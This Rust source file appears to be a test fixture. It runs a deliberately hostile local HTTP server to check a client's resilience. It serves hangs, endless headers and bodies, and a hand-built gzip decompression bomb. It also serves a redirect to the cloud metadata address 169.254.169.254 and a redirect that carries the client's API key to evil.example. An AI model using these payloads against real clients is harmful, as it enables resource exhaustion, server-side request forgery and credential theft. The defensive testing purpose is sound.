//! An app that misbehaves: each of its paths is one way not to answer.

use std::future::pending;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Serves until the test program ends; answers its port. It has a thread of its own, as
/// it outlives the test that starts it.
pub fn serve() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build();
        runtime.unwrap().block_on(async {
            listener.set_nonblocking(true).unwrap();
            let listener = TcpListener::from_std(listener).unwrap();
            while let Ok((connection, _)) = listener.accept().await {
                // Who is tired of it hangs up: that is no failure.
                tokio::spawn(async move { answer(connection).await.ok() });
            }
        });
    });
    port
}

async fn answer(mut connection: TcpStream) -> std::io::Result<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(connection.read_u8().await?);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let path = head.split(' ').nth(1).unwrap_or_default();
    if let Some(("/echo", form)) = path.split_once("?as=") {
        let head = head.lines().filter_map(|line| line.split_once(": "));
        let mut keys = head.filter(|(name, _)| name.eq_ignore_ascii_case("x-api-key"));
        let (_, key) = keys.next().unwrap_or_default();
        return connection.write_all(&repeated(form, key)).await;
    }
    let mut say = async |text: &[u8]| connection.write_all(text).await;
    match path {
        "/silent" => pending().await,
        "/half-a-head" => {
            say(b"HTTP/1.1 200 OK\r\nContent-Ty").await?;
            pending().await
        }
        "/drip" => {
            say(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n").await?;
            loop {
                say(b"x").await?;
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
        "/endless-body" => {
            say(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n").await?;
            let chunk = [b"8000\r\n".as_slice(), &[b'x'; 0x8000], b"\r\n"].concat();
            loop {
                say(&chunk).await?;
            }
        }
        "/endless-head" => {
            say(b"HTTP/1.1 200 OK\r\n").await?;
            loop {
                say(b"X-More: and more\r\n").await?;
            }
        }
        "/bomb" => {
            let bomb = bomb(64 << 20);
            let length = bomb.len();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {length}\r\n\r\n"
            );
            say(head.as_bytes()).await?;
            say(&bomb).await
        }
        "/inside" => say(&moved("http://169.254.169.254/latest/meta-data")).await,
        "/elsewhere" => say(&moved("https://evil.example/")).await,
        // Hangs up.
        _ => Ok(()),
    }
}

/// An answer that repeats the key in this form.
fn repeated(form: &str, key: &str) -> Vec<u8> {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

    let encoded = |upper: bool| -> String {
        let each = key.bytes().map(|byte| match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' => char::from(byte).to_string(),
            _ if upper => format!("%{byte:02X}"),
            _ => format!("%{byte:02x}"),
        });
        each.collect()
    };
    let (first, second) = key.split_at(key.len() / 2);
    let text = match form.rsplit('.').next().unwrap_or_default() {
        "url" => encoded(true),
        "url-lower" => encoded(false),
        "json" => key.replace('/', "\\/"),
        "base64" => STANDARD.encode(key),
        "base64url" => URL_SAFE_NO_PAD.encode(key),
        "base64-1" => STANDARD.encode(format!("#{key}")),
        "base64-2" => STANDARD.encode(format!("##{key}##")),
        "pair" => STANDARD.encode(format!("{key}:")),
        _ => key.to_owned(),
    };
    let (status, headers, body) = match form.split('.').next().unwrap_or_default() {
        "header" => ("200 OK", format!("X-Echo: {text}\r\n"), String::new()),
        "headers" => {
            let header = format!("X-Echo: {text}\r\n");
            ("200 OK", header.repeat(2), String::new())
        }
        "cookie" => (
            "200 OK",
            format!("Set-Cookie: session={text}\r\n"),
            String::new(),
        ),
        "location" => {
            let place = format!("Location: https://evil.example/?key={text}\r\n");
            ("302 Found", place, String::new())
        }
        "error" => ("500 Oh", String::new(), format!("there is no key {text}")),
        "body" => ("200 OK", String::new(), format!(r#"{{"said":"{text}"}}"#)),
        "halves" => {
            let halves = format!("X-First: {first}\r\nX-Second: {second}\r\n");
            ("200 OK", halves, String::new())
        }
        // In two chunks, each of which holds a part.
        _ => {
            let chunk = |part: &str| format!("{:x}\r\n{part}\r\n", part.len());
            let chunks = format!("{}{}0\r\n\r\n", chunk(first), chunk(second));
            let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
            return format!("{head}{chunks}").into_bytes();
        }
    };
    let length = body.len();
    format!(
        "HTTP/1.1 {status}\r\n{headers}Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    )
    .into_bytes()
}

fn moved(to: &str) -> Vec<u8> {
    let head = format!(
        "HTTP/1.1 307 Temporary Redirect\r\nLocation: {to}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
    );
    head.into_bytes()
}

/// So many zeros in few bytes of gzip: one of them, and "258 times the byte before" over
/// and over.
fn bomb(zeros: usize) -> Vec<u8> {
    // One last block of fixed codes: a literal 0 is 00110000, the length 258 is
    // 11000101, the distance 1 is 00000.
    let mut bits = Bits::default();
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    bits.push_code(0b0011_0000, 8);
    for _ in 0..zeros / 258 {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    let header = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    [header.as_slice(), &bits.bytes].concat()
}

/// Bits as deflate writes them, lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, bits: u32, count: u32) {
        for place in 0..count {
            if self.used == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().expect("it was just pushed");
            *last |= u8::from(bits >> place & 1 == 1) << self.used;
            self.used = (self.used + 1) % 8;
        }
    }

    /// Huffman codes come with their highest bit first.
    fn push_code(&mut self, code: u32, count: u32) {
        self.push(code.reverse_bits() >> (32 - count), count);
    }
}
